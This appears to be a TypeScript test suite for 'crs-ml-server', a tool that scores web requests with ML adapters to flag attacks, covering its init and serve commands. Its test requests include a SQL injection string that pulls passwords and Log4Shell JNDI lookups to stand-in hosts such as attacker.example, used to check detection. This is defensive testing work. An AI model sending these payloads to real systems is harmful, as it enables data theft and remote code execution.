import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { AdapterRegistry } from '../../src/adapter/adapter-registry';
import { loadUserAdapters } from '../../src/adapter/load-user-adapters';
import { initCommand } from '../../src/cli/commands/init';
import { serve } from '../../src/cli/commands/serve';
import { resolveModelsDir } from '../../src/cli/resolve-models-dir';
import type { MlRequest } from '../../src/contract/ml-request';
import { CrsMlError } from '../../src/errors';
import { silentLogger } from '../../src/logger';
import { describeAdapterConformance } from '../../src/sdk/conformance';

const ROOT = path.resolve(__dirname, '..', '..');
const TEMPLATE = path.join(ROOT, 'templates', 'init');
const WRITTEN = [
  'README.md',
  'saved_models/adapters/keyword-adapter.js',
  'saved_models/adapters/keyword-adapter.ts',
  'saved_models/keywords.json',
  'saved_models/manifest.json',
  'test/keyword-adapter.test.js',
];

const tempDir = () => mkdtempSync(path.join(tmpdir(), 'crs-ml-init-'));
const request = (args: Array<[string, string]>, extra: Partial<MlRequest> = {}): MlRequest => ({
  method: 'GET', path: '/search', args, files: [], sizes: [], hour: 12, day: 1, ...extra,
});
const REQUESTS = [
  request([['ARGS:q', 'blue running shoes']]),
  request([['ARGS:name', "O'Brien"]]),
  request([['ARGS:id', "1' UNION SELECT password FROM users--"]]),
  request([], { version: 2, headers: [['REQUEST_HEADERS:User-Agent', '${jndi:ldap://attacker.example/a}']] }),
];

/** The template's adapter in each language, loaded the way `serve` loads user adapters. */
function templateAdapter(extension: 'js' | 'ts') {
  const registry = new AdapterRegistry();
  loadUserAdapters(path.join(TEMPLATE, 'saved_models', 'adapters', `keyword-adapter.${extension}`), registry, silentLogger);
  return registry.get('keyword');
}
for (const extension of ['js', 'ts'] as const) {
  describeAdapterConformance({ adapter: templateAdapter(extension), modelsDir: path.join(TEMPLATE, 'saved_models'), requests: REQUESTS, title: extension });
}

describe('crs-ml-server init', () => {
  it('writes saved_models/, the example adapter in .js and .ts, its conformance test and a README', () => {
    const dir = tempDir();
    let out = '';
    expect(initCommand(dir, {}, (text) => (out += text))).toEqual(WRITTEN);
    for (const file of WRITTEN) expect(readFileSync(path.join(dir, file), 'utf8')).toBe(readFileSync(path.join(TEMPLATE, file), 'utf8'));
    expect(out).toContain(`wrote 6 files to ${dir}`);
    expect(out).toContain('npx crs-ml-server');
  });

  it('refuses to overwrite, naming the files, unless --force', () => {
    const dir = tempDir();
    mkdirSync(path.join(dir, 'saved_models'));
    writeFileSync(path.join(dir, 'saved_models', 'manifest.json'), '{"mine":true}');
    let error: unknown;
    try {
      initCommand(dir, {}, () => undefined);
    } catch (caught) {
      error = caught;
    }
    expect((error as CrsMlError).code).toBe('USAGE');
    expect((error as Error).message).toBe(`init would overwrite saved_models/manifest.json in ${dir}; move them away, pick another folder, or pass --force.`);
    expect(readFileSync(path.join(dir, 'saved_models', 'manifest.json'), 'utf8')).toBe('{"mine":true}');
    initCommand(dir, { force: true }, () => undefined);
    expect(JSON.parse(readFileSync(path.join(dir, 'saved_models', 'manifest.json'), 'utf8')).adapter).toBe('keyword');
  });

  it('gives the same scores in .js and .ts, and higher ones to the attacks', async () => {
    const scores = async (extension: 'js' | 'ts') => {
      const adapter = new (templateAdapter(extension))();
      await adapter.load({ modelPath: path.join(TEMPLATE, 'saved_models', 'keywords.json') } as never);
      return Array.from(await adapter.score(REQUESTS));
    };
    const js = await scores('js');
    expect(js).toEqual([0, 0, 5, 5]);
    expect(await scores('ts')).toEqual(js);
  });

  it('writes a saved_models/ that serve answers with: benign 200, attacks (v2 header too) 401', async () => {
    const dir = tempDir();
    initCommand(dir, {}, () => undefined);
    const { server } = (await serve({ models: path.join(dir, 'saved_models'), host: '127.0.0.1', port: 0, logLevel: 'error', maxBodyBytes: 1 << 20 }))!;
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
      const post = async (body: string) => {
        const res = await fetch(url, { method: 'POST', body });
        return `${res.status} ${await res.text()}`;
      };
      expect(await post('method=GET&path=/search&args={"ARGS:q":"blue shoes"}&hour=12&day=1')).toBe('200 score=0');
      expect(await post('method=GET&path=/search&args={"ARGS:q":"1\' union select 1--"}&hour=12&day=1')).toBe('401 score=5');
      const log4shell = encodeURIComponent('{"REQUEST_HEADERS:User-Agent":"${jndi:ldap://a.example/x}"}');
      expect(await post(`v=2&method=GET&path=%2F&args=%7B%7D&hour=12&day=1&headers=${log4shell}`)).toBe('401 score=5');
    } finally {
      server.close();
      server.closeAllConnections();
    }
  });
});

describe('where serve finds its models', () => {
  const bundled = path.join(ROOT, 'saved_models');

  it('takes --models (or CRS_ML_MODELS) as given, even when the folder is absent', () => {
    const cwd = tempDir();
    expect(resolveModelsDir('models', cwd, bundled)).toEqual({ dir: path.join(cwd, 'models'), bundled: false, note: '' });
  });

  it('takes ./saved_models when it exists', () => {
    const cwd = tempDir();
    mkdirSync(path.join(cwd, 'saved_models'));
    expect(resolveModelsDir(undefined, cwd, bundled)).toEqual({ dir: path.join(cwd, 'saved_models'), bundled: false, note: '' });
  });

  it("falls back to the package's bundled default, and says so, where ./saved_models is absent", () => {
    const cwd = tempDir();
    const choice = resolveModelsDir(undefined, cwd);
    expect(choice.dir).toBe(bundled);
    expect(choice.bundled).toBe(true);
    expect(choice.note).toBe(
      `the bundled default models (${bundled}), as there is no ./saved_models in ${cwd}; serve your own with --models DIR, or start one with \`crs-ml-server init\``,
    );
  });
});
